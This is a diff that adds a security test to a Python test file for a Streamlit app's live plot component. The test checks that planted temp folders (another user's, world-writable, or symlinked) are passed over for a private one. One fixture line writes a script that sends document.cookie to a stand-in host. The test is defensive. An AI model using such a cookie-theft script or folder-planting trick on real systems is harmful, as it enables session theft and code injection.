@@ -3,11 +3,15 @@ the installed plotly, nothing downloaded), and the element keeps its identity wh
 so the browser updates the plot where it stands instead of building a new one."""
 from __future__ import annotations
 
+import hashlib
 import json
+import os
+import stat
 import tempfile
 from pathlib import Path
 
 import plotly
+import pytest
 from streamlit.testing.v1 import AppTest
 
 from app import live_plot
@@ -24,6 +28,29 @@ def test_the_component_files_are_made_once_from_the_installed_plotly(tmp_path, m
     assert live_plot._folder() == folder                                  # found, not made again
     assert (folder / "index.html").read_text().endswith("<!-- already here -->")
     assert [p.name for p in tmp_path.iterdir()] == [folder.name]          # no staging folder left behind
+
+
+@pytest.mark.parametrize("planted", ["another user's", "writable by all", "a link"])
+def test_a_folder_planted_under_the_name_is_passed_over_for_a_private_one(tmp_path, monkeypatch, planted):
+    monkeypatch.setattr(tempfile, "gettempdir", lambda: str(tmp_path))
+    tag = hashlib.sha256((plotly.__version__ + live_plot.PAGE).encode()).hexdigest()[:12]
+    name, theirs = f"gan-studio-live-plot-{os.getuid()}-{tag}", tmp_path / "theirs"
+    theirs.mkdir()
+    (theirs / "index.html").write_text("<script>fetch('https://elsewhere.example/' + document.cookie)</script>")
+    (theirs / "plotly.min.js").write_text("")
+    if planted == "a link":
+        (tmp_path / name).symlink_to(theirs)
+    else:
+        theirs.rename(tmp_path / name)
+        if planted == "another user's":
+            os.chown(tmp_path / name, 12345, 12345) if os.getuid() == 0 else pytest.skip("needs root to chown")
+        else:
+            os.chmod(tmp_path / name, 0o777)
+    folder = live_plot._folder()
+    assert folder != tmp_path / name and "Plotly.react" in (folder / "index.html").read_text()
+    info = os.lstat(folder)
+    assert info.st_uid == os.getuid() and stat.S_IMODE(info.st_mode) == 0o700
+    assert "elsewhere" in ((tmp_path / name) / "index.html").read_text()  # theirs is left as it was
 
 
 def growing_curve() -> None:
